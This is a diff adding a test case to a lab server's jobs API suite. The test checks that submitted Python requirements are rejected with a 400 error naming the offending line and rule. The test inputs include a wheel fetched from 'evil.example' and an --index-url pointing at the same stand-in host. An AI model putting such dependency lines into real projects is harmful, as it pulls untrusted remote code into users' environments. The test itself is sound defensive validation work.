@@ -64,6 +64,30 @@ describe('createLabServer() POST /api/jobs', () => {
     }
   });
 
+  it('should answer 400 REQUIREMENTS_REJECTED naming the line and the rule, and queue nothing', async () => {
+    server = await startJobsServer();
+    for (const [requirements, line, rule] of [
+      [
+        'numpy>=1.26\noptax @ https://evil.example/optax.whl\n',
+        2,
+        'direct-reference'
+      ],
+      ['# pins\n\n--index-url https://evil.example/simple\n', 3, 'option'],
+      ['six==not a version', 1, 'syntax']
+    ] as const) {
+      const { res, body } = await submit({ requirements });
+      expect(res.status, requirements).toBe(400);
+      expect(body).toMatchObject({
+        code: 'REQUIREMENTS_REJECTED',
+        message: expect.stringContaining(`line ${line}`),
+        hint: expect.any(String),
+        details: { line, rule }
+      });
+    }
+    const page = await (await server.call('GET', '/api/jobs')).json();
+    expect(page.items).toEqual([]);
+  });
+
   it('should refuse an entrypoint that is not designated, listing the allowed ones', async () => {
     server = await startJobsServer();
     const { res, body } = await submit({ entrypoint: 'os_system' });
